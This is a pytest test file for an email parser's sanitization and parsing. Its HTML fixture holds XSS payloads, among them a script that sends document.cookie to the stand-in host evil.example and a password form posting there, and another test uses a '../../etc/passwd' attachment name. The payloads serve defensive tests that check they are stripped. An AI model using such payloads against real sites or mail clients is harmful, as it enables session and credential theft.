from __future__ import annotations

import hashlib
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path

import pytest

from channels.base import ChannelName, IdentityKind, MessageKind, UnparseableInput
from channels.email import ParseConfig, parse_email

CORPUS_EMAIL = Path(__file__).resolve().parents[3] / ".." / "shared" / "corpus" / "email"
CONFIG = ParseConfig(reply_domain="reply.hub.test")

MALICIOUS_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<style>body { background: url(http://evil.example/track.png) }</style>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<link rel="stylesheet" href="http://evil.example/x.css">
</head>
<body onload="steal()">
<p onclick="steal()" onmouseover="steal()">Hello, please refund my order.</p>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt&#58;alert(2)">click2</a>
<a href=" vbscript:msgbox(3)">click3</a>
<a href="https://shop.example/order/7">order</a>
<div style="width: expression(alert(4)); color: red">css expression</div>
<div style="background-image: url('javascript:alert(5)')">css url</div>
<div style="behavior: url(x.htc)">behaviour</div>
<iframe src="http://evil.example/frame">frame text</iframe>
<object data="http://evil.example/x.swf"><embed src="x.swf"></object>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<form action="http://evil.example/post"><input name="password"><button>go</button></form>
<svg><script>alert(6)</script></svg>
<img src="x" onerror="alert(7)">
</body></html>"""


def _message(**headers: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = headers.pop("From", "Ann Customer <Ann@Example.COM>")
    message["To"] = headers.pop("To", "support@hub.test")
    message["Subject"] = headers.pop("Subject", "Help with my booking")
    message["Date"] = "Mon, 23 Nov 2026 10:00:00 +0100"
    message["Message-ID"] = headers.pop("Message_ID", "<abc.123@example.com>")
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    return message


def test_basic_fields() -> None:
    message = _message(Cc="Bob <bob@example.org>")
    message.set_content("Hi, my booking is wrong.\n")
    parsed = parse_email(message.as_bytes(), CONFIG)
    assert parsed.channel is ChannelName.EMAIL
    assert parsed.external_id == "abc.123@example.com"
    assert parsed.sender is not None
    assert parsed.sender.kind is IdentityKind.EMAIL
    assert parsed.sender.value == "ann@example.com"
    assert parsed.sender.display_name == "Ann Customer"
    assert parsed.recipient == "support@hub.test"
    assert parsed.metadata["cc"] == "bob@example.org"
    assert parsed.subject == "Help with my booking"
    assert parsed.received_at == datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    assert parsed.text.strip() == "Hi, my booking is wrong."
    assert parsed.html is None
    assert not parsed.is_automatic
    assert parsed.kind is MessageKind.MESSAGE


def test_malicious_html_is_sanitized() -> None:
    message = _message()
    message.set_content(MALICIOUS_HTML, subtype="html")
    parsed = parse_email(message.as_bytes(), CONFIG)
    assert parsed.html is not None
    html = parsed.html.lower()
    for forbidden in (
        "<script",
        "onload",
        "onclick",
        "onmouseover",
        "onerror",
        "javascript",
        "vbscript",
        "expression(",
        "url(",
        "behavior",
        "<iframe",
        "frame text",
        "<object",
        "<embed",
        "<meta",
        "refresh",
        "<link",
        "data:",
        "<form",
        "<input",
        "<svg",
        "document.cookie",
        "evil.example",
    ):
        assert forbidden not in html, forbidden
    assert "hello, please refund my order." in html
    assert 'href="https://shop.example/order/7"' in html
    assert "noopener" in html
    # Text derived from the HTML, since no plain alternative was sent.
    assert "Hello, please refund my order." in parsed.text
    assert "document.cookie" not in parsed.text


def test_html_only_message_gets_text() -> None:
    message = _message()
    message.set_content("<p>First line<br>second line</p><ul><li>one</li><li>two</li></ul>", subtype="html")
    parsed = parse_email(message.as_bytes(), CONFIG)
    assert parsed.text == "First line\nsecond line\n\n- one\n- two"


def test_alternative_keeps_both_bodies() -> None:
    message = _message()
    message.set_content("plain body")
    message.add_alternative("<p>rich <b>body</b></p>", subtype="html")
    parsed = parse_email(message.as_bytes(), CONFIG)
    assert parsed.text.strip() == "plain body"
    assert parsed.html == "<p>rich <b>body</b></p>"


def test_attachments_and_inline_images() -> None:
    message = _message()
    message.set_content("see attached")
    message.add_alternative('<p>logo: <img src="cid:logo123@example.com"></p>', subtype="html")
    html_part = message.get_payload()[1]
    html_part.add_related(b"\x89PNG...", maintype="image", subtype="png", cid="<logo123@example.com>")
    message.add_attachment(b"%PDF-1.4 invoice", maintype="application", subtype="pdf", filename="invoice.pdf")
    parsed = parse_email(message.as_bytes(), CONFIG)
    by_name = {attachment.content_type: attachment for attachment in parsed.attachments}
    assert set(by_name) == {"image/png", "application/pdf"}
    image = by_name["image/png"]
    assert image.content_id == "logo123@example.com"
    assert image.inline
    assert image.data == b"\x89PNG..."
    pdf = by_name["application/pdf"]
    assert pdf.filename == "invoice.pdf"
    assert not pdf.inline
    assert pdf.data == b"%PDF-1.4 invoice"
    assert parsed.html is not None
    assert 'src="cid:logo123@example.com"' in parsed.html


def test_attachment_filename_cannot_escape_a_directory() -> None:
    message = _message()
    message.set_content("x")
    message.add_attachment(b"data", maintype="text", subtype="plain", filename="../../etc/passwd")
    parsed = parse_email(message.as_bytes(), CONFIG)
    assert "/" not in parsed.attachments[0].filename
    assert parsed.attachments[0].data == b"data"


@pytest.mark.parametrize(
    ("charset", "encoded"),
    [
        ("gb2312", "您好，我的订单有问题".encode("gb18030")),
        ("x-unknown", "Grüße aus München".encode()),
        ("utf-8", "Grüße aus München".encode("cp1252")),
        ("ks_c_5601-1987", "안녕하세요".encode("cp949")),
    ],
)
def test_broken_charsets_fall_back(charset: str, encoded: bytes) -> None:
    raw = (
        b"From: a@example.com\r\nTo: support@hub.test\r\nSubject: hi\r\nMessage-ID: <c@x>\r\n"
        b"Content-Type: text/plain; charset=" + charset.encode() + b"\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + encoded + b"\r\n"
    )
    parsed = parse_email(raw, CONFIG)
    assert parsed.text.strip()
    if charset != "utf-8":
        assert parsed.text.strip() == encoded.decode(
            {"gb2312": "gb18030", "x-unknown": "utf-8", "ks_c_5601-1987": "cp949"}[charset]
        )
    else:
        assert parsed.text.strip() == "Grüße aus München"


def test_encoded_and_raw_8bit_headers() -> None:
    raw = (
        b"From: =?utf-8?B?5byg5LiJ?= <zhang@example.cn>\r\nTo: support@hub.test\r\n"
        b"Subject: =?gb2312?B?xPq6w6Oh?= order\r\nMessage-ID: <d@x>\r\n\r\nbody\r\n"
    )
    parsed = parse_email(raw, CONFIG)
    assert parsed.sender is not None
    assert parsed.sender.display_name == "张三"
    assert parsed.subject == "您好！ order"
    raw_8bit = "From: a@example.com\r\nSubject: Grüße\r\n\r\nbody\r\n".encode()
    assert parse_email(raw_8bit, CONFIG).subject == "Grüße"


def test_missing_message_id_gets_stable_derived_id() -> None:
    raw = b"From: a@example.com\r\nTo: support@hub.test\r\nSubject: no id\r\n\r\nbody\r\n"
    first = parse_email(raw, CONFIG)
    assert first.external_id == "sha256:" + hashlib.sha256(raw).hexdigest()
    assert parse_email(raw, CONFIG).external_id == first.external_id


def test_thread_hints() -> None:
    message = _message(
        To="Support <reply+Tok3n_abc@reply.hub.test>",
        Subject="Re: Your request [#1234]",
        In_Reply_To="<out.1@hub.test>",
        References="<first@hub.test> <out.1@hub.test>  <middle@example.com>",
    )
    message.set_content("thanks")
    hints = parse_email(message.as_bytes(), CONFIG).thread
    assert hints.conversation_token == "Tok3n_abc"
    assert hints.references == ("out.1@hub.test", "middle@example.com", "first@hub.test")
    assert hints.subject_token == "1234"


def test_reply_token_from_other_domain_is_ignored_and_delivered_to_is_read() -> None:
    message = _message(To="reply+abcd1234@elsewhere.example")
    message.set_content("x")
    assert parse_email(message.as_bytes(), CONFIG).thread.conversation_token is None
    message = _message(To="support@hub.test", Delivered_To="reply+zzzz9999@reply.hub.test")
    message.set_content("x")
    assert parse_email(message.as_bytes(), CONFIG).thread.conversation_token == "zzzz9999"


@pytest.mark.parametrize(
    "headers",
    [
        {"Auto_Submitted": "auto-replied"},
        {"Precedence": "bulk"},
        {"Precedence": "auto_reply"},
        {"Precedence": "junk"},
        {"X_Autoreply": "yes"},
        {"Subject": "Out of Office: Help with my booking"},
        {"Subject": "Automatic reply: Help"},
        {"Subject": "自动回复: 您好"},
    ],
)
def test_automatic_messages_are_flagged(headers: dict[str, str]) -> None:
    message = _message(**headers)
    message.set_content("I am away until Monday.")
    parsed = parse_email(message.as_bytes(), CONFIG)
    assert parsed.is_automatic
    assert parsed.metadata["automatic_reason"]


def test_auto_submitted_no_is_a_person() -> None:
    message = _message(Auto_Submitted="no")
    message.set_content("hello")
    assert not parse_email(message.as_bytes(), CONFIG).is_automatic


def test_size_limit() -> None:
    message = _message()
    message.set_content("x" * 5000)
    with pytest.raises(UnparseableInput, match="over the 1000-byte limit"):
        parse_email(message.as_bytes(), ParseConfig(max_message_bytes=1000))


def test_part_limit() -> None:
    message = _message()
    message.set_content("x")
    for index in range(5):
        message.add_attachment(b"a", maintype="application", subtype="octet-stream", filename=f"{index}.bin")
    with pytest.raises(UnparseableInput, match="more than 3 MIME parts"):
        parse_email(message.as_bytes(), ParseConfig(max_parts=3))


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b"   \r\n", "empty"),
        (b"just some words\nand more\n", "no header section"),
        (b"Subject: who sent this\r\n\r\nbody", "no usable sender"),
    ],
)
def test_unreadable_input_has_reason(raw: bytes, reason: str) -> None:
    with pytest.raises(UnparseableInput, match=reason):
        parse_email(raw, CONFIG)


def test_visible_reply_of_standard_client_replies() -> None:
    folder = CORPUS_EMAIL / "mailgun+talon" / "tests" / "fixtures" / "standard_replies"
    files = sorted(folder.glob("*.eml"))
    assert len(files) >= 10
    for path in files:
        parsed = parse_email(path.read_bytes(), CONFIG)
        assert parsed.metadata["visible_text"] == "Hello", path.name
        assert "Hello" in parsed.text


def test_bounce_is_a_system_message() -> None:
    path = CORPUS_EMAIL / "mailgun+flanker" / "tests" / "fixtures" / "messages" / "bounce" / "mailbox-full.eml"
    parsed = parse_email(path.read_bytes(), CONFIG)
    assert parsed.kind is MessageKind.SYSTEM
    assert parsed.is_automatic
    assert parsed.metadata["delivery_report"] == "1"


def test_inline_image_of_a_real_message_is_mapped_by_content_id() -> None:
    path = CORPUS_EMAIL / "mikel+mail/spec/fixtures/emails/attachment_emails"
    parsed = parse_email((path / "attachment_message_rfc822_inline_image.eml").read_bytes(), CONFIG)
    images = [a for a in parsed.attachments if a.content_type == "image/png"]
    assert len(images) == 1
    assert images[0].inline
    assert images[0].content_id is not None
    assert parsed.html is not None
    assert f"cid:{images[0].content_id}" in parsed.html
    forwarded = [a for a in parsed.attachments if a.content_type == "message/rfc822"]
    assert forwarded
    assert forwarded[0].data.startswith(b"Return-Path:") or b"Subject:" in forwarded[0].data


def test_recipient_prefers_our_inbox_address() -> None:
    message = _message(To="Partner <partner@example.net>, Sales <Sales@Hub.test>", Cc="support@hub.test")
    message.set_content("x")
    config = ParseConfig(inbox_addresses=("support@hub.test", "sales@hub.test"))
    assert parse_email(message.as_bytes(), config).recipient == "sales@hub.test"
    assert parse_email(message.as_bytes(), ParseConfig()).recipient == "partner@example.net"
